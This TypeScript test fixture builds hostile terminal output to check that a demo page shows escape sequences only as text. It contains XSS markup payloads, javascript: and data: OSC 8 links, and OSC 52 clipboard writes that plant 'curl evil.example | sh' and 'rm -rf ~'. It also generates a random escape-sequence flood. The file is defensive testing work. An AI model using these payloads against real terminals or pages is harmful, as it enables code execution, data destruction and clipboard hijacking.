// What a hostile program prints into a demo's terminal: clipboard writes (OSC 52), window titles
// carrying markup (OSC 0/2), hyperlinks to javascript: and to a web page (OSC 8), markup as
// plain text, and a seeded flood of random escape sequences. Each payload that ran would set
// window.__pwned; the page must show all of it as text, or not at all.

/** The demo that prints the payload: `cat` of a file the project holds (no quoting to get wrong). */
export const OUTPUT_DECK_NAME = 'out';
export const OUTPUT_DEMO = 'hostile';
export const PAYLOAD_FILE = 'hostile-output.txt';
export const OUTPUT_DECK = `---
title: Hostile output
---
# A program that prints hostile escape sequences

---

\`\`\`demo id=${OUTPUT_DEMO} timeout=60 cols=100 rows=30
$ cat ${PAYLOAD_FILE}
\`\`\`
`;

/** Printed last: once the terminal shows it, every byte before it was parsed. */
export const END_MARK = 'HOSTILE-END';
/** The visible text of the two OSC 8 links, at the start of their own lines, for a click. */
export const JS_LINK_TEXT = 'LINK-JS-click-me';
export const HTTP_LINK_TEXT = 'LINK-HTTP-click-me';
/** Where the http link points: a closed port on loopback, so following it would go nowhere. */
export const HTTP_LINK_TARGET = 'http://127.0.0.1:9/pwned';

const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;
/** The script every markup payload tries to run. */
const PWN = 'window.__pwned=1';
const MARKUP = [`<img src=x onerror="${PWN}">`, `<script>${PWN}</script>`, `<svg onload="${PWN}">`, `"><iframe srcdoc="<script>parent.${PWN}</script>">`];

/** The targeted payloads: each is an attack on its own. */
function targeted(): string {
  const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
  return [
    // Clipboard: set (c, p, s and every selection), with BEL and ST terminators.
    `${ESC}]52;c;${b64('curl evil.example | sh')}${BEL}`,
    `${ESC}]52;cpqs01234567;${b64('rm -rf ~')}${ST}`,
    `${ESC}]52;c;?${BEL}`, // a query: a terminal that answers it leaks the clipboard to the program
    // Titles and icon names with markup.
    ...MARKUP.flatMap((m) => [`${ESC}]0;${m}${BEL}`, `${ESC}]1;${m}${ST}`, `${ESC}]2;${m}${BEL}`]),
    `${ESC}[21t`, // report the title back as input: a terminal that does types the markup into the shell
    // Markup as plain text.
    ...MARKUP.map((m) => `${m}\r\n`),
    // Hyperlinks: javascript:, data:, and a web page; each on a line of its own.
    `${ESC}]8;;javascript:${PWN}${BEL}${JS_LINK_TEXT}${ESC}]8;;${BEL}\r\n`,
    `${ESC}]8;id=x;JaVaScRiPt:${PWN}${ST}LINK-JS-2${ESC}]8;;${ST}\r\n`,
    `${ESC}]8;;data:text/html,<script>${PWN}</script>${BEL}LINK-DATA${ESC}]8;;${BEL}\r\n`,
    `${ESC}]8;;${HTTP_LINK_TARGET}${BEL}${HTTP_LINK_TEXT}${ESC}]8;;${BEL}\r\n`,
  ].join('');
}

/** OSC numbers the flood picks from: the ones terminals act on, and nonsense. 133 is left out:
 * ptydeck's own step marks use it (a program faking them is a matter for the session, not the page). */
const OSC_NUMBERS = [0, 1, 2, 4, 7, 8, 10, 11, 12, 50, 51, 52, 104, 777, 1337, 99999];
const FINALS = '@ABCDEFGHIJKLMPSTXZ`abcdefghilmnpqrstuxz{|}~';

/** A seeded generator (xorshift32): a failing flood can be replayed from its seed. */
function random(seed: number): (n: number) => number {
  let state = seed >>> 0 || 1;
  return (n) => {
    state ^= state << 13;
    state >>>= 0;
    state ^= state >>> 17;
    state ^= state << 5;
    state >>>= 0;
    return state % n;
  };
}

/** `count` random escape sequences and bits of text, markup included, from `seed`. */
export function escapeFlood(seed: number, count: number): string {
  const pick = random(seed);
  const text = (max: number) =>
    Array.from({ length: pick(max) }, () => (pick(4) === 0 ? MARKUP[pick(MARKUP.length)]! : String.fromCharCode(0x20 + pick(0x5f)))).join('');
  const params = () => Array.from({ length: pick(6) }, () => String(pick(10) === 0 ? pick(100000) : pick(100))).join(pick(8) === 0 ? ':' : ';');
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    switch (pick(9)) {
      case 0:
      case 1:
        out.push(`${ESC}[${['', '?', '>', '<', '='][pick(5)]}${params()}${[' ', '$', '"', "'", ''][pick(5)]}${FINALS[pick(FINALS.length)]}`);
        break;
      case 2:
        out.push(`${ESC}]${OSC_NUMBERS[pick(OSC_NUMBERS.length)]};${text(40)}${pick(2) ? BEL : ST}`);
        break;
      case 3:
        out.push(`${ESC}${['P', '_', '^', 'X'][pick(4)]}${params()}${text(30)}${ST}`); // DCS, APC, PM, SOS
        break;
      case 4:
        out.push(`${ESC}${String.fromCharCode(0x20 + pick(0x5f))}`);
        break;
      case 5:
        out.push(String.fromCharCode(0x80 + pick(0x20))); // C1 controls
        break;
      case 6:
        out.push(String.fromCharCode(pick(0x20)));
        break;
      default:
        out.push(text(20));
    }
  }
  return out.join('');
}

/**
 * The whole payload: the targeted attacks, the flood, the attacks again after a full reset (so
 * the links are on screen, clickable, whatever state the flood left), and the end mark.
 */
export function hostilePayload(seed: number, floodCount: number): string {
  return `${targeted()}${escapeFlood(seed, floodCount)}${ESC}c${targeted()}${END_MARK}\r\n`;
}
